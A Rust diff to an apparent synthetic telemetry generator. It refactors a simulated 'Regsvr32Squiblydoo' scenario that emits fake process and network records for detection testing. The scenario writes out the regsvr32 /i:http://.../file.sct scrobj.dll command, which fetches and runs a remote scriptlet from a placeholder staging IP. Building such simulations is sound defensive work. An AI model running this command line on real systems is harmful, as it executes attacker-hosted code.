@@ -4,9 +4,9 @@
 
 use serde_json::{Map, Value};
 
-use super::{Env, Kind, Scenario, process_record};
+use super::{Env, Kind, Scenario, outbound, process_record};
 use crate::synth::content as c;
-use crate::synth::device::{Conn, Ctx, MINUTE, SECOND, Spawn};
+use crate::synth::device::{Ctx, MINUTE, SECOND, Spawn};
 use crate::synth::rng::Rng;
 use crate::synth::world as w;
 
@@ -30,15 +30,7 @@ impl Scenario for Regsvr32Squiblydoo {
         let shell = ctx.spawn(at, Spawn::new(&w::CMD, "\"C:\\Windows\\system32\\cmd.exe\"").parent(&env.session.explorer).lifetime(5 * MINUTE));
         let line = format!("regsvr32  /s /n /u /i:http://{}/file.sct scrobj.dll", c::STAGING_IP);
         let regsvr = ctx.spawn(at + 15 * SECOND, Spawn::new(&w::REGSVR32, line).parent(&shell).lifetime(10 * SECOND));
-        let conn = Conn {
-            action: "ConnectionSuccess",
-            remote_ip: c::STAGING_IP,
-            remote_port: 80,
-            remote_url: "",
-            local_ip: "",
-            local_port: rng.range(49_152, 65_535) as i32,
-            protocol: "Tcp",
-        };
+        let conn = outbound(c::STAGING_IP, 80, rng);
         ctx.connect(&regsvr, at + 16 * SECOND, &conn);
         process_record(&regsvr, &shell)
     }
